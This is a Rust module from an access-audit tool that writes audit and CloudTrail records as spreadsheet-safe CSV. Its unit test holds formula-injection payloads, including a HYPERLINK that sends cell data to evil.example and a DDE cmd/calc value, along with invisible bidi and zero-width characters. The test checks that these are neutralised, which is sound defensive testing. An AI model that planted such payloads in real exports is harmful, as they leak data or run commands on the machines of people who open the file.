//! CSV on stdout (`audit --format csv`, `audit --activity --format csv`): the columns, a row
//! per request or per CloudTrail event, and the writer. Every cell is made safe for a
//! spreadsheet, since reasons, tickets and comments are typed by whoever asked.

use crate::domain::activity::Activity;
use crate::error::{Error, Result};
use crate::workflow::audit::Record;

use super::QuietStdout;
use super::sanitize::csv_cell;

pub const CSV_HEADER: [&str; 19] = [
    "id",
    "status",
    "mode",
    "principal",
    "requester",
    "account_id",
    "permission_set",
    "reason",
    "ticket",
    "rules",
    "policy_version",
    "created_at",
    "start_at",
    "granted_at",
    "end_at",
    "ended_at",
    "ended_by",
    "prior_access",
    "decisions",
];

pub fn csv_row(r: &Record) -> Vec<String> {
    let t = |t: Option<jiff::Timestamp>| t.map(|t| t.to_string()).unwrap_or_default();
    let decisions: Vec<String> = r
        .decisions
        .iter()
        .map(|d| {
            format!(
                "{} by {} at {}{}",
                d.kind,
                d.by,
                d.at,
                d.comment
                    .as_deref()
                    .map(|c| format!(": {c}"))
                    .unwrap_or_default()
            )
        })
        .collect();
    [
        r.id.to_string(),
        r.status.to_string(),
        r.mode.to_string(),
        r.principal.clone(),
        r.requester.clone(),
        r.account_id.clone(),
        r.permission_set.clone(),
        r.reason.clone(),
        r.ticket.clone().unwrap_or_default(),
        r.rules.join(" "),
        r.policy_version.clone(),
        r.created_at.to_string(),
        t(r.start_at),
        t(r.granted_at),
        t(r.end_at),
        t(r.ended_at),
        r.ended_by.clone().unwrap_or_default(),
        r.prior_access.map(|p| p.to_string()).unwrap_or_default(),
        decisions.join("; "),
    ]
    .iter()
    .map(|s| csv_cell(s))
    .collect()
}

/// The columns of `audit --activity --format csv`.
pub const ACTIVITY_HEADER: [&str; 8] = [
    "time",
    "source",
    "event",
    "access",
    "region",
    "source_ip",
    "error",
    "caller",
];

pub fn activity_row(a: &Activity) -> Vec<String> {
    [
        a.time.to_string(),
        a.source.clone(),
        a.name.clone(),
        a.access().to_string(),
        a.region.clone(),
        a.source_ip.clone(),
        a.error_code.clone().unwrap_or_default(),
        a.caller.clone(),
    ]
    .iter()
    .map(|s| csv_cell(s))
    .collect()
}

/// Rows written to stdout as they come (a long audit streams); a reader that stops early ends
/// the output quietly, as `QuietStdout` does.
pub struct Writer(::csv::Writer<QuietStdout>);

fn failed(e: impl std::fmt::Display) -> Error {
    Error::Io(format!("cannot write CSV: {e}"))
}

impl Writer {
    /// A writer that has written `header`.
    pub fn start(header: &[&str]) -> Result<Writer> {
        let mut w = ::csv::Writer::from_writer(QuietStdout);
        w.write_record(header).map_err(failed)?;
        Ok(Writer(w))
    }

    /// One row of cells already made safe (`csv_row`, `activity_row`).
    pub fn row(&mut self, cells: Vec<String>) -> Result<()> {
        self.0.write_record(cells).map_err(failed)
    }

    pub fn finish(mut self) -> Result<()> {
        self.0.flush().map_err(failed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A record as a hostile requester and approver would fill it.
    fn hostile() -> Record {
        let at: jiff::Timestamp = "2026-01-01T00:00:00Z".parse().unwrap();
        Record {
            id: crate::domain::RequestId::from_entropy(7),
            status: crate::domain::Status::Active,
            mode: crate::domain::Mode::Required,
            break_glass: false,
            principal: "user:mallory\u{202E}nimda".into(),
            requester: "user:mal\u{200B}lory".into(),
            account_id: "111111111111".into(),
            permission_set: "Admin".into(),
            reason: "=HYPERLINK(\"https://evil.example/?\"&A1,\"fix\")".into(),
            ticket: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
            rules: vec!["r".into()],
            policy_version: "v1".into(),
            created_at: at,
            start_at: None,
            granted_at: None,
            end_at: None,
            ended_at: None,
            ended_by: Some("-2+3".into()),
            prior_access: None,
            decisions: vec![crate::workflow::audit::Decision {
                kind: "approved",
                by: "user:bob".into(),
                at,
                comment: Some("ok\u{2066}\u{E0041}\u{FE0F}\u{3164}".into()),
            }],
        }
    }

    #[test]
    fn csv_rows_are_neither_formulas_nor_hiding_places() {
        let row = csv_row(&hostile());
        assert_eq!(row.len(), CSV_HEADER.len());
        let col = |name: &str| &row[CSV_HEADER.iter().position(|h| *h == name).unwrap()];
        assert!(col("reason").starts_with("'="), "{}", col("reason"));
        assert!(col("ticket").starts_with("'@"), "{}", col("ticket"));
        assert!(col("ended_by").starts_with("'-"), "{}", col("ended_by"));
        assert_eq!(col("principal"), "user:mallory\\u{202e}nimda");
        assert_eq!(col("requester"), "user:mal\\u{200b}lory");
        for cell in &row {
            assert!(
                !cell.chars().any(super::super::sanitize::is_dangerous),
                "{cell:?}"
            );
        }
    }
}
